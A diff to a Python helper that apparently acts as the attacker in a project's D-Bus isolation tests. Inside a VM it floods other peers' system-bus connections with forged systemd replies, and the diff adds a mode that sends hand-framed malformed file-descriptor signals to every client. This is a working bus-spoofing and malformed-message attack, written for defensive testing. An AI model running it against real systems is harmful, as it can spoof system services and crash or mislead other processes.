@@ -1,7 +1,7 @@
 """Run inside the VM as ``nobody``: answer for systemd on other peers'
 connections to the system bus (issue 40, H-1).
 
-    python3 forger.py SOCKET SECONDS MASK_HEX
+    python3 forger.py SOCKET SECONDS MASK_HEX [fd]
 
 The attacker of ``tests/functional/isolation/test_forged_replies.py``
 (``ATTACKER``), on the VM's real system bus. Unique names are public
@@ -17,8 +17,14 @@ second serials 1-299 and another 300 of a window that moves up to 3,000
 (a long-lived connection, ``watch``, has used more). Debian's
 python3-jeepney; stdlib otherwise. Prints how many messages it sent when
 its time is up or on SIGTERM.
+
+With ``fd`` (issue 48, R5-H1) it sends instead one signal of type ``h``
+(a descriptor's index) that carries no descriptor, framed by hand
+(jeepney will not make it), to each new connection as it appears and to
+every client connection every second: both buses deliver it.
 """
 
+import itertools
 import signal
 import sys
 import time
@@ -29,6 +35,9 @@ from jeepney import HeaderFields
 from jeepney.bus_messages import MatchRule
 from jeepney.bus_messages import message_bus
 from jeepney.io.blocking import open_dbus_connection
+from jeepney.low_level import Endianness
+from jeepney.low_level import Header
+from jeepney.low_level import MessageType
 
 PATH = '/org/freedesktop/systemd1/unit/system_2eslice'
 WINDOW = 300
@@ -37,11 +46,25 @@ TOP = 3000
 
 class Forger:
 
-    def __init__(self, sock, mask):
+    def __init__(self, sock, mask, fd=False):
         self.sock = sock
         self.mask = mask
+        self.fd = fd
         self.sent = 0
         self.window = WINDOW
+        self.serials = itertools.count(1 << 30)
+
+    def fd_signal(self, conn, name):
+        """A signal of type ``h`` to ``name``, with no descriptor."""
+        fields = {HeaderFields.path: '/org/example/Forger',
+                  HeaderFields.interface: 'org.example.Forger',
+                  HeaderFields.member: 'Forged',
+                  HeaderFields.destination: name,
+                  HeaderFields.signature: 'h'}
+        head = Header(Endianness.little, MessageType.signal, 0, 1, 4,
+                      next(self.serials), fields).serialise()
+        conn.sock.sendall(head + bytes(-len(head) % 8) + bytes(4))
+        self.sent += 1
 
     def body(self, serial):
         if serial == 1:
@@ -51,6 +74,9 @@ class Forger:
         return 'v', (('ay', self.mask),)
 
     def flood(self, conn, name, serials):
+        if self.fd:
+            self.fd_signal(conn, name)
+            return
         for serial in serials:
             sig, value = self.body(serial)
             for kind in ('signal', 'return'):
@@ -124,7 +150,7 @@ class Forger:
 
 def main(argv):
     sock, seconds, mask = argv[0], float(argv[1]), bytes.fromhex(argv[2])
-    forger = Forger(sock, mask)
+    forger = Forger(sock, mask, fd=argv[3:] == ['fd'])
 
     def done(*_args):
         print('sent %d' % forger.sent, flush=True)
